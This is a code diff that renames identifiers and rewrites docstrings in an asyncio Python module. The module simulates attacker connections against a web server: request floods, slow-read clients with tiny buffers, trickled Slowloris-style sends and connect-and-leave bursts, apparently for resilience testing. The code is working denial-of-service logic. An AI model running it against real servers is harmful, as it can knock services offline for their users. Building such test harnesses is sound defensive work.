@@ -1,4 +1,4 @@
-"""An attacker's connections: they ask, read nothing, send slowly, or come and go, until the time is up."""
+"""The connections of an attacker: they ask, read nothing, send slowly, or connect and leave, until the time is up."""
 
 from __future__ import annotations
 
@@ -13,16 +13,16 @@ from typing import Any
 from urllib.parse import urlsplit
 
 SMALL_BUFFER = 1024
-"""Bytes that the system keeps for a connection that does not read."""
+"""Bytes that the system buffers for a connection that does not read."""
 ESTABLISHED = 1
-"""A state of TCP, as TCP_INFO tells it."""
+"""The state of an open TCP connection in TCP_INFO."""
 PAUSE = 0.2
 """Seconds before a connection that was closed is opened again."""
 
 
 @dataclass
 class Tally:
-    """What became of an attack."""
+    """Counts of what happened to the connections of an attack."""
 
     opened: int = 0
     refused: int = 0
@@ -34,62 +34,62 @@ class Tally:
 
 @dataclass
 class Attacker:
-    """Where an attack goes, from which address, until when, and what became of it."""
+    """The target of an attack, its source address, its end, and its tally."""
 
     url: str
     source: str
     end: float
-    """On the clock of the event loop."""
-    count_event: Tally = field(default_factory=Tally)
+    """The time at which the attack ends, on the clock of the event loop."""
+    tally: Tally = field(default_factory=Tally)
 
     def goes_on(self) -> bool:
         """Return whether there is time left."""
         return asyncio.get_running_loop().time() < self.end
 
     async def open(self, receive_buffer: int = 0) -> socket.socket | None:
-        """Return a new connection; None, after a pause, if there is none to be had."""
-        where = urlsplit(self.url)
+        """Return a new connection; None, after a pause, if the server accepts none."""
+        target = urlsplit(self.url)
         line = socket.socket()
         line.setblocking(False)
         if receive_buffer:
             line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
         try:
             line.bind((self.source, 0))
-            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(line, (where.hostname, where.port)), 5)
-        except OSError:  # a timeout is one, too
+            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(line, (target.hostname, target.port)), 5)
+        except OSError:  # TimeoutError is one, too
             line.close()
-            self.count_event.refused += 1
+            self.tally.refused += 1
             await asyncio.sleep(PAUSE)
             return None
         except asyncio.CancelledError:
             line.close()
             raise
-        self.count_event.opened += 1
+        self.tally.opened += 1
         return line
 
-    async def on_each(self, connections: int, live: Callable[[Attacker], Coroutine[Any, Any, None]]) -> None:
-        """Let so many connections live at once, one after another in each place, until the time is up."""
+    async def repeat(self, connections: int, use: Callable[[Attacker], Coroutine[Any, Any, None]]) -> None:
+        """Run `use` so many times at once, and again each time that it ends, until the time is up."""
 
-        async def place(number: int) -> None:
-            await asyncio.sleep(min(1.0, number / 1000))  # a thousand a second
+        async def repeat_use(number: int) -> None:
+            await asyncio.sleep(min(1.0, number / 1000))  # so that a thousand start within a second
             while self.goes_on():
                 with suppress(OSError):
-                    await live(self)
+                    await use(self)
 
-        places = [asyncio.create_task(place(number)) for number in range(connections)]
-        _, late = await asyncio.wait(places, timeout=self.end - asyncio.get_running_loop().time())
-        for one in late:
-            one.cancel()
-        await asyncio.gather(*late, return_exceptions=True)
+        tasks = [asyncio.create_task(repeat_use(number)) for number in range(connections)]
+        _, unfinished = await asyncio.wait(tasks, timeout=self.end - asyncio.get_running_loop().time())
+        for task in unfinished:
+            task.cancel()
+        await asyncio.gather(*unfinished, return_exceptions=True)
 
 
 async def send(line: socket.socket, data: bytes) -> None:
-    """Send all of it."""
+    """Send all of the data."""
     await asyncio.get_running_loop().sock_sendall(line, data)
 
 
 async def read_to_end(line: socket.socket) -> bytes:
-    """Return the first bytes of all that comes until the server closes the connection."""
+    """Read until the server closes the connection, and return the first bytes."""
     first = b""
     while data := await asyncio.get_running_loop().sock_recv(line, 2**18):
         first = first if len(first) > 12 else first + data[:100]
@@ -97,25 +97,25 @@ async def read_to_end(line: socket.socket) -> bytes:
 
 
 async def ask(attacker: Attacker, requests: Sequence[bytes], at_once: int) -> None:
-    """Ask in turn, a connection for each question, and read the answers."""
-    turn: Iterator[bytes] = cycle(requests)
+    """Send the requests again and again, each on a connection of its own, and read the answers."""
+    next_request: Iterator[bytes] = cycle(requests)
 
-    async def live(attacker: Attacker) -> None:
+    async def use(attacker: Attacker) -> None:
         line = await attacker.open()
         if line is None:
             return
         with line:
-            await send(line, next(turn))
-            said = await read_to_end(line)
-            attacker.count_event.answers[said[9:12].decode("latin-1") or "none"] += 1
+            await send(line, next(next_request))
+            answer = await read_to_end(line)
+            attacker.tally.answers[answer[9:12].decode("latin-1") or "none"] += 1
 
-    await attacker.on_each(at_once, live)
+    await attacker.repeat(at_once, use)
 
 
 async def read_nothing(attacker: Attacker, data: bytes, connections: int, read_a_second: int = 0) -> None:
-    """Ask, and read nothing of the answer, or a few bytes a second; a connection that was closed is opened again."""
+    """Send a request and read nothing of the answer, or a few bytes a second; reconnect when the server closes."""
 
-    async def live(attacker: Attacker) -> None:
+    async def use(attacker: Attacker) -> None:
         line = await attacker.open(SMALL_BUFFER)
         if line is None:
             return
@@ -123,21 +123,21 @@ async def read_nothing(attacker: Attacker, data: bytes, connections: int, read_a
             sending = asyncio.create_task(send(line, data))
             while is_open(line) and not (sending.done() and sending.exception()):
                 await asyncio.sleep(1)
-                if read_a_second and not took(line, read_a_second):
+                if read_a_second and not read_some(line, read_a_second):
                     break
             sending.cancel()
-            attacker.count_event.closed += 1
+            attacker.tally.closed += 1
 
-    await attacker.on_each(connections, live)
+    await attacker.repeat(connections, use)
 
 
 def is_open(line: socket.socket) -> bool:
-    """Return whether the server has not closed the connection, as far as the system knows."""
+    """Return whether the connection is open, as far as the system knows."""
     return line.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED
 
 
-def took(line: socket.socket, size: int) -> bool:
-    """Read what has come, so many bytes at most, and return whether the connection is still open."""
+def read_some(line: socket.socket, size: int) -> bool:
+    """Read what has arrived, at most `size` bytes, and return whether the connection is still open."""
     try:
         return line.recv(size) != b""
     except BlockingIOError:
@@ -147,10 +147,10 @@ def took(line: socket.socket, size: int) -> bool:
 async def trickle(
     attacker: Attacker, start: bytes, pieces: Sequence[bytes], every: float, connections: int, shut: bool = False
 ) -> None:
-    """Send a start, then a piece every few seconds; `shut`: after the start, say that nothing more is sent."""
-    turn = cycle(pieces) if pieces else None
+    """Send a start, then a piece every few seconds; with `shut`, close the sending half after the start."""
+    next_piece = cycle(pieces) if pieces else None
 
-    async def live(attacker: Attacker) -> None:
+    async def use(attacker: Attacker) -> None:
         line = await attacker.open()
         if line is None:
             return
@@ -158,19 +158,19 @@ async def trickle(
             await send(line, start)
             if shut:
                 line.shutdown(socket.SHUT_WR)
-            while took(line, 2**16):
+            while read_some(line, 2**16):
                 await asyncio.sleep(every)
-                if turn:
-                    await send(line, next(turn))
-            attacker.count_event.closed += 1
+                if next_piece:
+                    await send(line, next(next_piece))
+            attacker.tally.closed += 1
 
-    await attacker.on_each(connections, live)
+    await attacker.repeat(connections, use)
 
 
 async def leave(attacker: Attacker, data: bytes, at_once: int, after: float = 0.0) -> None:
-    """Connect, send, and be gone before an answer, time and again."""
+    """Connect, send and leave before there is an answer, again and again."""
 
-    async def live(attacker: Attacker) -> None:
+    async def use(attacker: Attacker) -> None:
         line = await attacker.open()
         if line is None:
             return
@@ -178,4 +178,4 @@ async def leave(attacker: Attacker, data: bytes, at_once: int, after: float = 0.
             await send(line, data)
             await asyncio.sleep(after)
 
-    await attacker.on_each(at_once, live)
+    await attacker.repeat(at_once, use)
